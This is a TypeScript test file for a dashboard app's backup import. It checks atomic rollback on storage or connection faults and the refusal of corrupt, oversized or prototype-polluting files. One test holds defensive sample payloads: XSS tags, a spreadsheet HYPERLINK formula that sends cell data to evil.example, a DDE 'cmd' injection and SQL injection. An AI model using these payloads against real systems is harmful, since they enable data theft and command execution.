/**
 * Import faults: a file that is cut short, of another format or version, full of hostile strings
 * and keys or impossible numbers, 50 MB large, or an import that dies midway (storage full,
 * connection closed). Whatever happens the store is either unchanged or holds the whole file,
 * and nothing outside the store (Object.prototype) is touched.
 */
import { Dexie } from 'dexie';
import Papa from 'papaparse';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { capturesCsv, sessionsCsv } from '../../lib/export/csv';
import { parseBackup, type BackupV1 } from '../../lib/export/backup';
import { exportBackup, importBackup } from '../../lib/store/backup';
import { StoreError } from '../../lib/store/errors';
import { ingestCapture } from '../../lib/store/ingest';
import { counts } from '../../lib/store/queries';
import { METRIC_IDS, METRICS } from '../../lib/metrics/catalog';
import type { StageLensDB } from '../../lib/store/db';
import { countWrites, forceCloseAtWrite, quotaFromWrite } from '../store/faults';
import { T0, freshDb, liveCapture, tableCapture, withValue } from '../store/fixtures';

afterEach(() => vi.restoreAllMocks());

/** A backup of two live captures and a table page. */
async function sourceBackup(): Promise<BackupV1> {
  const src = freshDb();
  await ingestCapture(src, liveCapture());
  await ingestCapture(src, withValue(liveCapture(), 'viewers', 15000, T0 + 60_000));
  await ingestCapture(src, tableCapture());
  return exportBackup(src, T0);
}

/** A store that already holds something the file lacks (so "unchanged" is not just "empty"). */
async function target(): Promise<StageLensDB> {
  const db = freshDb();
  await ingestCapture(db, withValue(liveCapture(), 'gmv', 30000, T0 + 120_000));
  return db;
}

const everything = async (db: StageLensDB) => ({ backup: await exportBackup(db, 0), values: await db.values.toArray() });
const unpolluted = () => {
  for (const k of ['polluted', 'isAdmin', 'hacked']) {
    expect(({} as Record<string, unknown>)[k]).toBeUndefined();
    expect((Object.prototype as Record<string, unknown>)[k]).toBeUndefined();
  }
};

async function expectRefused(file: unknown, why: RegExp) {
  const db = await target();
  const before = await everything(db);
  const res = await importBackup(db, file);
  expect(res.ok).toBe(false);
  expect(res.ok ? '' : res.error).toMatch(why);
  expect(await everything(db)).toEqual(before);
  unpolluted();
}

describe('import aborted midway', () => {
  it('storage full at any point of the import: StoreError "quota", the store unchanged', async () => {
    const file = await sourceBackup();
    const writes = (await countWrites(async () => importBackup(await target(), file))) - (await countWrites(target));
    expect(writes).toBeGreaterThan(20);
    // every write position up to 40, then every 7th
    for (let n = 1; n <= writes; n += n < 40 ? 1 : 7) {
      const db = await target();
      const before = await everything(db);
      const fault = quotaFromWrite(n);
      const err = await importBackup(db, file).catch((e: unknown) => e);
      fault.restore();
      expect(err, `quota at write ${n} of ${writes}`).toBeInstanceOf(StoreError);
      expect((err as StoreError).kind, `write ${n}`).toBe('quota');
      expect((err as StoreError).op).toBe('import');
      expect(await everything(db), `quota at write ${n}`).toEqual(before);
    }
  });

  it('the connection closed midway: the import is redone whole by Dexie, or refused leaving the store unchanged', async () => {
    vi.spyOn(console, 'warn').mockImplementation(() => {}); // Dexie: "Need to reopen db"
    const file = await sourceBackup();
    const whole = await target();
    await importBackup(whole, file);
    const after = await everything(whole);
    const writes = (await countWrites(async () => importBackup(await target(), file))) - (await countWrites(target));
    for (const n of [1, 2, Math.floor(writes / 2), writes - 1, writes]) {
      const db = await target();
      const before = await everything(db);
      const fault = forceCloseAtWrite(n);
      const res = await importBackup(db, file).catch((e: unknown) => e);
      fault.restore();
      expect(fault.fired()).toBe(true);
      if (res instanceof StoreError) expect(await everything(db), `closed at ${n}`).toEqual(before);
      else expect(await everything(db), `closed at ${n}`).toEqual(after);
    }
  });

  it('an import whose transaction is aborted by the caller changes nothing', async () => {
    const file = await sourceBackup();
    const db = await target();
    const before = await everything(db);
    // the captures are written after shops and sessions: abort there
    const bulkAdd = db.captures.bulkAdd.bind(db.captures);
    vi.spyOn(db.captures, 'bulkAdd').mockImplementation(((...args: Parameters<typeof bulkAdd>) =>
      bulkAdd(...args).then((r) => {
        Dexie.currentTransaction!.abort();
        return r;
      })) as typeof bulkAdd);
    const err = await importBackup(db, file).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(StoreError);
    expect((err as StoreError).kind).toBe('aborted');
    vi.restoreAllMocks();
    expect(await everything(db)).toEqual(before);
  });
});

describe('import of a bad file', () => {
  let text = '';
  beforeAll(async () => {
    text = JSON.stringify(await sourceBackup());
  });

  it('cut short anywhere: "not valid JSON", nothing changed', async () => {
    const cuts = Array.from({ length: 24 }, (_, i) => Math.floor((text.length * (i + 1)) / 25));
    for (const cut of [0, 1, ...cuts, text.length - 1]) await expectRefused(text.slice(0, cut), /not valid JSON|expected a JSON object/);
  });

  it.each([
    ['version 2', { version: 2 }, /unsupported backup version 2/],
    ['version 0', { version: 0 }, /unsupported backup version 0/],
    ['version "1" (a string)', { version: '1' }, /unsupported backup version "1"/],
    ['version 1.5', { version: 1.5 }, /unsupported backup version 1.5/],
    ['version null', { version: null }, /unsupported backup version null/],
    ['another format', { format: 'excel' }, /not a StageLens backup: format is "excel"/],
    ['no format', { format: undefined }, /not a StageLens backup: format is missing/],
  ] as const)('wrong format or version (%s): refused, says which', async (_n, patch, why) => {
    await expectRefused(JSON.stringify({ ...JSON.parse(text), ...patch }), why);
  });

  it('a hostile key at any depth is refused before anything is written, and pollutes nothing', async () => {
    const clean = JSON.parse(text) as Record<string, unknown>;
    // every object in the file, one at a time, gets each hostile key
    const paths: string[][] = [];
    const walk = (v: unknown, p: string[]) => {
      if (v === null || typeof v !== 'object') return;
      if (!Array.isArray(v)) paths.push(p);
      for (const [k, x] of Object.entries(v)) walk(x, [...p, k]);
    };
    walk(clean, []);
    expect(paths.length).toBeGreaterThan(50);
    const step = Math.max(1, Math.floor(paths.length / 40));
    let tried = 0;
    for (let i = 0; i < paths.length; i += step) {
      for (const key of ['__proto__', 'constructor', 'prototype']) {
        const marker = '"__HOSTILE__":1';
        const copy = JSON.parse(text) as Record<string, unknown>;
        let o = copy as Record<string, unknown>;
        for (const k of paths[i]!) o = o[k] as Record<string, unknown>;
        o.__HOSTILE__ = 1;
        const file = JSON.stringify(copy).replace(marker, `"${key}":{"polluted":true,"isAdmin":true}`);
        await expectRefused(file, new RegExp(`key "${key}" is not allowed`));
        tried++;
      }
    }
    expect(tried).toBeGreaterThan(60);
    // the same as an already parsed object (JSON.parse makes "__proto__" an own key)
    const parsed = JSON.parse(text) as BackupV1;
    parsed.settings.push(JSON.parse('{"key":"targets","value":{"__proto__":{"hacked":1}}}') as BackupV1['settings'][number]);
    await expectRefused(parsed, /settings\.\d+\.value\.__proto__/);
  });

  it.each([
    [
      'money beyond 10^13',
      (b: BackupV1) => {
        b.captures[0]!.readings[1]!.value = 1e14;
      },
      /out of range for cny/,
    ],
    [
      'a count of 2^53 + 2',
      (b: BackupV1) => {
        b.captures[0]!.readings[0]!.value = 2 ** 53 + 2;
      },
      /out of range for count/,
    ],
    [
      'a point of 1e300 viewers',
      (b: BackupV1) => {
        b.points[0]!.value = 1e300;
      },
      /points\.0.*out of range/,
    ],
    [
      'a negative point',
      (b: BackupV1) => {
        b.points[0]!.value = -5;
      },
      /points\.0.*negative/,
    ],
    [
      'a fractional count in latest',
      (b: BackupV1) => {
        b.sessions[0]!.latest.viewers!.value = 12.5;
      },
      /whole number/,
    ],
    [
      'a rate of 10,001 %',
      (b: BackupV1) => {
        b.captures[0]!.readings[4]!.value = 100.01;
      },
      /out of range for ratio/,
    ],
    [
      'a time beyond year 275760',
      (b: BackupV1) => {
        b.points[0]!.t = 1e16;
      },
      /points\.0\.t/,
    ],
    [
      'a time that is not an integer',
      (b: BackupV1) => {
        b.shops[0]!.lastSeen = T0 + 0.5;
      },
      /shops\.0\.lastSeen/,
    ],
  ])('an impossible number (%s) is refused, nothing changed', async (_n, spoil, why) => {
    const b = JSON.parse(text) as BackupV1;
    spoil(b);
    await expectRefused(JSON.stringify(b), why);
  });

  it('numbers JSON cannot hold (1e999, -1e999) are refused, not stored as Infinity', async () => {
    await expectRefused(text.replace(/"value":15000/, '"value":1e999'), /value/);
    await expectRefused(text.replace(/"t":\d+/, '"t":-1e999'), /\.t: .*-Infinity/);
  });

  it('hostile strings are stored as the text they are, and stay inert in the CSV', async () => {
    const evil = [
      '<img src=x onerror="alert(1)">',
      '=HYPERLINK("http://evil.example/?"&A1,"点我")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,1)',
      '\t=1+1',
      '"; DROP TABLE shops; --',
      '</script><script>alert(1)</script>',
      '\u202e\u0000\ud800 bidi, NUL, lone surrogate',
    ];
    const b = JSON.parse(text) as BackupV1;
    b.shops[0]!.name = evil[0]!;
    b.sessions.forEach((s, i) => {
      s.title = evil[i % evil.length]!;
    });
    b.captures.forEach((c, i) => {
      c.readings.forEach((r, j) => {
        r.text = evil[(i + j) % evil.length]!;
        r.label = evil[(i + j + 1) % evil.length]!;
      });
      c.unknown = evil.map((e) => ({ label: e, text: e }));
    });
    const db = freshDb();
    const res = await importBackup(db, JSON.stringify(b));
    expect(res.ok).toBe(true);
    unpolluted();
    const titles = (await db.sessions.toArray()).map((s) => s.title);
    for (const s of b.sessions) expect(titles).toContain(s.title);
    expect((await db.shops.get(b.shops[0]!.id))?.name).not.toBeUndefined();
    const stored = await db.captures.toArray();
    expect(stored.some((c) => c.unknown.some((u) => u.label === evil[1]))).toBe(true);

    // the CSV of what was imported: no cell starts a formula
    const csvs = [sessionsCsv(await db.sessions.toArray(), { lang: 'en' }), capturesCsv(stored, { lang: 'en' })];
    let cells = 0;
    for (const csv of csvs) {
      for (const row of Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data) {
        for (const cell of row) {
          cells++;
          // a number may be negative; any other text must not start what a spreadsheet evaluates
          if (!/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    }
    expect(cells).toBeGreaterThan(100);
  });
});

describe('a 50 MB file', () => {
  // Built once: 4,000 capture rows (40 readings, 40 unknown labels each: a busy dashboard) and
  // 20,000 live points, padded with real rows (no whitespace tricks) to 50 MB.
  let big = '';
  let rows = { captures: 0, points: 0 };
  beforeAll(async () => {
    const b = await sourceBackup();
    const proto = b.captures[0]!;
    const ids = METRIC_IDS.slice(0, 40);
    const readings = ids.map((metric, i) => {
      const unit = METRICS[metric].unit;
      const value = unit === 'ratio' ? 0.0123 : unit === 'count' ? 1000 + i : 12.5 + i;
      return { metric, label: METRICS[metric].zh, text: String(value), value, unit, source: 'observed' as const };
    });
    const unknown = Array.from({ length: 40 }, (_, i) => ({ label: `未识别的指标名称第${i}项（近7日 · 全部渠道）`, text: `¥${(i * 1234.5).toFixed(2)}万` }));
    const captures: BackupV1['captures'] = [];
    const points: BackupV1['points'] = [];
    const sessionId = b.sessions.find((s) => s.live)!.id;
    for (let i = 0; i < 20_000; i++) points.push({ sessionId, metric: 'viewers', t: T0 + i * 5000, value: 12000 + i });
    let size = JSON.stringify({ ...b, points }).length;
    for (let i = 0; size < 50e6; i++) {
      const c = { ...proto, capturedAt: proto.capturedAt + (i + 1) * 1000, hash: `h${i.toString(16).padStart(12, '0')}`, readings, unknown };
      if (i === 0) size += JSON.stringify(c).length * 0; // measured below, once
      captures.push(c);
      if (captures.length === 1) {
        const per = JSON.stringify(c).length + 1;
        const n = Math.ceil((50e6 - size) / per);
        for (let k = 1; k < n; k++) captures.push({ ...c, capturedAt: proto.capturedAt + (k + 1) * 1000, hash: `h${k.toString(16).padStart(12, '0')}` });
        break;
      }
    }
    rows = { captures: captures.length, points: points.length };
    big = JSON.stringify({ ...b, captures: [...b.captures, ...captures], points: [...b.points, ...points] });
  }, 60_000);

  it('imports cleanly within the schema limits', async () => {
    expect(big.length).toBeGreaterThanOrEqual(50e6);
    const db = await target();
    const t0 = Date.now();
    const res = await importBackup(db, big);
    const ms = Date.now() - t0;
    expect(res.ok).toBe(true);
    expect(res.ok && res.added.captures).toBeGreaterThanOrEqual(rows.captures);
    expect(res.ok && res.added.points).toBeGreaterThanOrEqual(rows.points);
    console.log(`50 MB import: ${(big.length / 1e6).toFixed(1)} M chars, ${rows.captures} captures + ${rows.points} points in ${ms} ms`);
  }, 120_000);

  it('the same file with one bad row at its very end: a clear error naming the row, nothing changed', async () => {
    const at = big.lastIndexOf('"t":');
    const bad = `${big.slice(0, at)}"t":"yesterday"${big.slice(big.indexOf(',', at))}`;
    const db = await target();
    const before = await everything(db);
    const t0 = Date.now();
    const res = await importBackup(db, bad);
    expect(res.ok).toBe(false);
    expect(res.ok ? '' : res.error).toMatch(/points\.\d+\.t/);
    expect(Date.now() - t0).toBeLessThan(60_000);
    expect(await everything(db)).toEqual(before);
  }, 120_000);

  it('over the size limit: refused before parsing', async () => {
    const db = await target();
    const res = await importBackup(db, big, { maxChars: 10e6 });
    expect(res).toEqual({ ok: false, error: expect.stringMatching(/file too large \(\d+ characters; limit 10000000\)/) });
    expect(await counts(db)).toMatchObject({ captures: 1 });
    expect(parseBackup('{}').ok).toBe(false);
  });
});
